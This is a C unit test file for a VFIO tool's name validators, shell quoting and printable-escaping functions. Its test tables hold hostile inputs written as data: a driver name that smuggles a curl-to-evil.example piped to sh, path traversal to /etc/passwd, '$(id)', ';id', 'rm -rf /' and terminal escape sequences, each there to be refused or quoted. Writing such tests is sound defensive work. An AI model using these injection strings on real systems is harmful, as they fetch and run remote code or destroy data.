/* SPDX-License-Identifier: GPL-2.0-or-later */
/* test-safe.c - name validation, shell quoting and printable forms. */
#ifdef HAVE_CONFIG_H
#include "config.h"
#endif

#include <stdlib.h>
#include <string.h>

#include "safe.h"
#include "tap.h"

static void quote(const char *in, const char *want)
{
	char *q = vi_shquote(in);

	is_str(q, want, "shquote %s", want);
	free(q);
}

static void printable(const char *in, size_t max, const char *want)
{
	char *p = vi_printable(in, max);

	is_str(p, want, "printable max %zu: %s", max, want);
	free(p);
}

int main(void)
{
	static const struct { enum vi_name_kind k; const char *s; bool ok; } names[] = {
		{ VI_NAME_BDF, "0000:00:03.0", true },
		{ VI_NAME_BDF, "00:03.0", false },
		{ VI_NAME_BDF, "0000:00:03.0;id", false },
		{ VI_NAME_BDF, "0000:0A:03.0", false },	/* the kernel writes lower case */
		{ VI_NAME_BDF, "../../../../etc/passwd", false },
		{ VI_NAME_DRIVER, "vfio-pci", true },
		{ VI_NAME_DRIVER, "e1000e", true },
		{ VI_NAME_DRIVER, "e1000e;curl${IFS}-s${IFS}evil.example|sh;#", false },
		{ VI_NAME_DRIVER, "..", false },
		{ VI_NAME_DRIVER, "-rf", false },
		{ VI_NAME_DRIVER, "", false },
		{ VI_NAME_GROUP, "12", true },
		{ VI_NAME_GROUP, "noiommu-0", true },
		{ VI_NAME_GROUP, "0", true },
		{ VI_NAME_GROUP, "012", false },
		{ VI_NAME_GROUP, "root", false },
		{ VI_NAME_GROUP, "12345678901", false },
		{ VI_NAME_UUID, "83b8f4f2-509f-382f-3c1e-e6bfe0fa1001", true },
		{ VI_NAME_UUID, "83b8f4f2-509f-382f-3c1e-e6bfe0fa100", false },
		{ VI_NAME_UUID, "83b8f4f2-509f-382f-3c1e-e6bfe0fa1001/..", false },
		{ VI_NAME_UUID, "83b8f4f2x509f-382f-3c1e-e6bfe0fa1001", false },
		{ VI_NAME_UUID, "", false },
		{ VI_NAME_MDEV_TYPE, "mtty-2", true },
		{ VI_NAME_MDEV_TYPE, "i915-GVTg_V5_4", true },
		{ VI_NAME_MDEV_TYPE, "mbochs-small", true },
		{ VI_NAME_MDEV_TYPE, "", false },
		{ VI_NAME_MDEV_TYPE, "..", false },
		{ VI_NAME_MDEV_TYPE, "-rf", false },
		{ VI_NAME_MDEV_TYPE, "mtty-2/../x", false },
		{ VI_NAME_MDEV_TYPE, "mtty 2", false },
		{ VI_NAME_MDEV_TYPE, "mtty-2;id", false },
		{ VI_NAME_MDEV_TYPE, "a\x1b[2J", false },
		{ VI_NAME_MDEV_TYPE, "x12345678901234567890123456789012345678901234567890123456789012345", false },
		{ VI_NAME_PID, "1", true },
		{ VI_NAME_PID, "0", false },
		{ VI_NAME_PID, "1 2", false },
		{ VI_NAME_CDEV, "vfio0", true },
		{ VI_NAME_CDEV, "vfio", false },
		{ VI_NAME_CDEV, "vfio0/../x", false },
		{ VI_NAME_COMPONENT, "iommu_group", true },
		{ VI_NAME_COMPONENT, "..", false },
		{ VI_NAME_COMPONENT, "a/b", false },
		{ VI_NAME_COMPONENT, "a\x1b[2Jb", false },
		{ VI_NAME_COMPONENT, "Fixed MDIO bus.0", true },	/* a real platform device */
		{ VI_NAME_COMPONENT, "a\tb", false },
		{ VI_NAME_MODULE, "vfio_iommu_type1", true },
		{ VI_NAME_USER, "libvirt-qemu", true },
		{ VI_NAME_USER, "a;b", false },
		{ VI_NAME_NETIF, "enp0s3", true },
		{ VI_NAME_NETIF, "eth0.100", true },
		{ VI_NAME_NETIF, "eth0:1", false },
		{ VI_NAME_NETIF, "a-very-long-ifname", false },
		{ VI_NAME_NETIF, "..", false },
		{ VI_NAME_NETIF, "e th", false },
		{ VI_NAME_PATH, "/", true },
		{ VI_NAME_PATH, "/home/my files", true },
		{ VI_NAME_PATH, "relative", false },
		{ VI_NAME_PATH, "/a/../etc", false },
		{ VI_NAME_PATH, "/a/./b", false },
		{ VI_NAME_PATH, "/a\nb", false },
		{ VI_NAME_PATH, "/a;b $(id)", true },	/* valid: quoted when printed */
		{ VI_NAME_PATH, "/a\x1b]0;b", false },
	};

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		is_int(vi_name_ok(names[i].k, names[i].s), names[i].ok, "%s: \"%s\" is %s",
		       vi_name_kind_word(names[i].k), names[i].s, names[i].ok ? "valid" : "refused");
	ok(!vi_name_ok(VI_NAME_DRIVER, NULL), "NULL is no name");

	quote("0000:00:03.0", "0000:00:03.0");
	quote("vfio-pci", "vfio-pci");
	quote("", "''");
	quote("a b", "'a b'");
	quote("it's", "'it'\\''s'");
	quote("$(id)", "'$(id)'");
	quote("x;rm -rf /", "'x;rm -rf /'");

	printable("plain", 160, "plain");
	printable("bel\a esc\x1b[31m", 160, "bel\\x07 esc\\x1b[31m");
	printable("back\\slash", 160, "back\\\\slash");
	printable("0123456789abcdefghijklmnopqrstuvwxyz", 20, "01234567...rstuvwxyz");
	/* an escape is never split: the cut moves to a token boundary */
	printable("\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b", 16, "\\x1b...\\x1b\\x1b");
	{
		char big[100001];
		char *p;

		memset(big, 'n', sizeof(big) - 1);
		big[sizeof(big) - 1] = '\0';
		p = vi_printable(big, VI_MSG_NAME_MAX);
		is_int(strlen(p), VI_MSG_NAME_MAX, "a 100,000-byte name is shortened to %d bytes",
		       VI_MSG_NAME_MAX);
		ok(strstr(p, "...") != NULL, "the middle is marked");
		free(p);
	}
	return tap_done();
}
